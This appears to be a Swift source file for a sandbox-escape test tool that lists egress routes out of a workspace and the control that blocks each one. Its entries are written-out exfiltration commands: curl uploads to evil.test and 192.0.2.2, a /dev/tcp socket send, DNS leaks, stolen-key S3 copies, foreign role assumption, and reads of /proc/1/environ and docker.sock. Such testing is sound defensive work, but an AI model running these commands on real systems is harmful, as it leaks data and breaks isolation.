import CordonModel

/// Every route out of a workspace on this machine, under the names that `cordon attack` walks them by.
enum LocalRoutes {
  /// All routes, in the order of the paths.
  static let all: [LocalRoute] = {
    let routes = upload + services + packages + shell + names + network + proxy + neighbours + browser
    return EgressPath.allCases.flatMap { path in routes.filter { $0.path == path } }
  }()

  /// Routes of parts that this version does not have: nothing is known of them, and nothing is said to be closed.
  static let notYetCovered: [(path: EgressPath, id: String, title: String)] = [
    (.notebookOutput, "output-view", "data shown in a notebook and carried out"),
    (.modelExport, "model-artifact", "a model released without review"),
  ]

  private static let upload: [LocalRoute] = [
    LocalRoute(
      "http-upload", .externalUpload, "a file sent to a web server, without a browser",
      [
        LocalWay(
          "through the proxy", "curl -x http://127.0.0.1:3128 -T data.csv https://evil.test/data.csv",
          .policy(.unlistedHost), .control(.proxyAllowlist)),
        LocalWay(
          "straight to its address", "curl --noproxy '*' -T data.csv http://192.0.2.2/data.csv",
          .control(.networkNamespace)),
      ]),
    LocalRoute(
      "mail-and-ftp", .externalUpload, "a file sent by mail, FTP or scp",
      [
        LocalWay(
          "straight to its address", "curl --noproxy '*' -T data.csv ftp://192.0.2.2/data.csv",
          .control(.networkNamespace)),
        LocalWay(
          "through the proxy", "curl -x http://127.0.0.1:3128 -T data.csv ftp://evil.test/data.csv",
          .fact(.httpOnly), .policy(.unlistedHost), .control(.proxyAllowlist)),
      ]),
  ]

  private static let services: [LocalRoute] = [
    LocalRoute(
      "s3-foreign-credentials", .crossAccountCopy, "keys of another account brought inside",
      [
        LocalWay(
          "foreign keys at the S3 endpoint",
          "AWS_ACCESS_KEY_ID=AKIAFOREIGN AWS_SECRET_ACCESS_KEY=secret aws s3 cp data.csv s3://somebodys-bucket/",
          .policy(.foreignCredentials), .control(.credentialCheck)),
        LocalWay(
          "no keys at all, into an own bucket", "aws s3 cp --no-sign-request data.csv s3://own-bucket/",
          .policy(.anonymous)),
        LocalWay(
          "foreign keys, straight to the service's own address",
          "curl --noproxy '*' --connect-to ::192.0.2.2: -T data.csv https://somebodys-bucket.s3.amazonaws.com/data",
          .control(.networkNamespace)),
      ]),
    LocalRoute(
      "s3-foreign-bucket", .crossAccountCopy, "own keys, another project's bucket",
      [
        LocalWay(
          "read or write another project's bucket", "aws s3 cp data.csv s3://another-projects-bucket/",
          .policy(.otherBucket)),
        LocalWay(
          "write a bucket of another account", "aws s3 cp data.csv s3://somebodys-bucket/",
          .policy(.foreignBucket), .fact(.ownStore)),
      ]),
    LocalRoute(
      "s3-neighbour-credentials", .crossAccountCopy, "another project's keys, stolen and used here",
      [
        LocalWay(
          "another project's keys at this project's endpoint",
          "aws --profile stolen s3 cp data.csv s3://another-projects-bucket/",
          .policy(.keysElsewhere), .control(.credentialCheck))
      ]),
    LocalRoute(
      "s3-presigned-url", .crossAccountCopy, "an own presigned URL, used by somebody else",
      [
        LocalWay(
          "the URL opened from another project's workspace",
          "curl \"$(aws s3 presign s3://own-bucket/data.csv)\"",
          .policy(.keysElsewhere), .control(.credentialCheck))
      ]),
    LocalRoute(
      "s3-name-squatting", .crossAccountCopy, "buckets that do not exist yet, other regions",
      [
        LocalWay(
          "a name that somebody else can register", "aws s3 cp data.csv s3://a-name-that-is-free/",
          .policy(.foreignBucket), .fact(.ownStore)),
        LocalWay(
          "the secret as a bucket's host name of another region", "dig secret.s3.sa-east-1.amazonaws.com",
          .policy(.unlistedName), .control(.dnsAllowlist)),
      ]),
    LocalRoute(
      "s3-publish", .crossAccountCopy, "making an own bucket public or its content leave by itself",
      [
        LocalWay(
          "a policy, ACL, website, replication or notification",
          "aws s3api put-bucket-acl --bucket own-bucket --acl public-read", .policy(.publish)),
        LocalWay(
          "an object that anybody may read", "aws s3 cp --acl public-read data.csv s3://own-bucket/",
          .policy(.anonymous)),
      ]),
    LocalRoute(
      "sts-foreign-role", .crossAccountCopy, "stepping into a role of somebody else",
      [
        LocalWay(
          "a role of another account",
          "aws sts assume-role --role-arn arn:aws:iam::999988887777:role/any --role-session-name secret",
          .policy(.foreignRole), .fact(.ownRoles)),
        LocalWay(
          "a role of another project",
          "aws sts assume-role --role-arn arn:aws:iam::ACCOUNT:role/other-workspace --role-session-name x",
          .policy(.neighbourRole)),
      ]),
    LocalRoute(
      "other-service-api", .crossAccountCopy, "a service API that nobody opened",
      [
        LocalWay(
          "its name", "dig kms.eu-west-1.amazonaws.com", .policy(.unlistedName), .control(.dnsAllowlist)),
        LocalWay(
          "through the proxy",
          "curl -x http://127.0.0.1:3128 --noproxy '' -d @data.csv https://sqs.eu-west-1.amazonaws.com/",
          .policy(.unlistedHost), .control(.proxyAllowlist)),
        LocalWay(
          "straight to its address",
          "curl --noproxy '*' --connect-to ::192.0.2.2: -d @data.csv https://sqs.eu-west-1.amazonaws.com/",
          .control(.networkNamespace)),
      ]),
  ]

  private static let packages: [LocalRoute] = [
    LocalRoute(
      "mirror-unlisted-name", .packageShell, "secret as the name of a package",
      [
        LocalWay(
          "a page that nobody listed", "curl https://packages.cordon.internal/simple/secret/",
          .control(.mirrorAllowlist))
      ]),
    LocalRoute(
      "mirror-file-and-header", .packageShell, "secret in versions, file names and request headers",
      [
        LocalWay(
          "headers and queries of a listed page",
          "curl -A secret 'https://packages.cordon.internal/simple/LISTED/?secret'", .fact(.ownRequest)),
        LocalWay(
          "file names and versions", "curl https://packages.cordon.internal/files/LISTED-secret.whl",
          .fact(.listedFiles)),
      ]),
    LocalRoute(
      "mirror-upload", .packageShell, "publishing a package to the mirror",
      [
        LocalWay(
          "what twine sends", "curl -F content=@data.whl https://packages.cordon.internal/legacy/",
          .control(.mirrorReadOnly))
      ]),
    LocalRoute(
      "foreign-index", .packageShell, "pip and twine pointed at an index outside",
      [
        LocalWay(
          "through the proxy",
          "pip download --proxy http://127.0.0.1:3128 -i https://evil.test/simple/ secret",
          .policy(.unlistedHost), .control(.proxyAllowlist)),
        LocalWay(
          "straight to its address", "env -u http_proxy pip download -i http://192.0.2.2/simple/ secret",
          .control(.networkNamespace)),
      ]),
    LocalRoute(
      "install-script", .packageShell, "a package that sends data while it is installed",
      [
        LocalWay(
          "a socket", "bash -c 'echo secret > /dev/tcp/192.0.2.2/80'", .control(.networkNamespace)),
        LocalWay(
          "a name", "getent hosts secret.evil.test", .policy(.unlistedName), .control(.dnsAllowlist)),
        LocalWay(
          "the proxy", "curl -x http://127.0.0.1:3128 -d secret https://evil.test/", .policy(.unlistedHost),
          .control(.proxyAllowlist)),
      ]),
  ]

  private static let shell: [LocalRoute] = [
    LocalRoute(
      "shell-host-files", .packageShell, "a file of the host, by path, link and /proc",
      [LocalWay("its path", "cat /etc/machine-id /var/log/syslog", .control(.rootFilesystem))]),
    LocalRoute(
      "shell-inherited-descriptors", .packageShell, "a descriptor that whoever started it left open",
      [LocalWay("/proc/self/fd", "ls -l /proc/self/fd", .control(.descriptorClosing))]),
    LocalRoute(
      "shell-launcher-environment", .packageShell, "variables of whoever started it",
      [LocalWay("/proc/1/environ", "tr '\\0' '\\n' < /proc/1/environ", .control(.environmentClearing))]),
    LocalRoute(
      "shell-output-file", .packageShell, "the host file that its output goes to",
      [LocalWay("reading back standard output", "head -c 4096 /proc/self/fd/1", .fact(.ownStreams))]),
    LocalRoute(
      "shell-privileges", .packageShell, "set-user-id programs, namespaces, mounts, devices",
      [
        LocalWay("a set-user-id program", "su nobody", .fact(.noNewPrivileges)),
        LocalWay(
          "namespaces, mounts and device nodes", "unshare --user --map-root-user --net true",
          .fact(.noCapabilities), .control(.seccomp)),
      ]),
    LocalRoute(
      "shell-kernel-calls", .packageShell, "system calls that reach past namespaces",
      [
        LocalWay(
          "keyrings, io_uring, ptrace",
          "python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(425, 4, b\"\"))'",
          .control(.seccomp))
      ]),
    LocalRoute(
      "shell-kernel-files", .packageShell, "kernel settings, logs and memory",
      [
        LocalWay(
          "core_pattern, kmsg, kcore", "sh -c 'echo x > /proc/sys/kernel/core_pattern'",
          .fact(.noCapabilities))
      ]),
    LocalRoute(
      "shell-host-sockets", .packageShell, "services of the host behind Unix sockets",
      [
        LocalWay(
          "a container engine, a message bus", "curl --unix-socket /run/docker.sock http://x/secret",
          .control(.rootFilesystem), .fact(.ownFolders))
      ]),
  ]
}
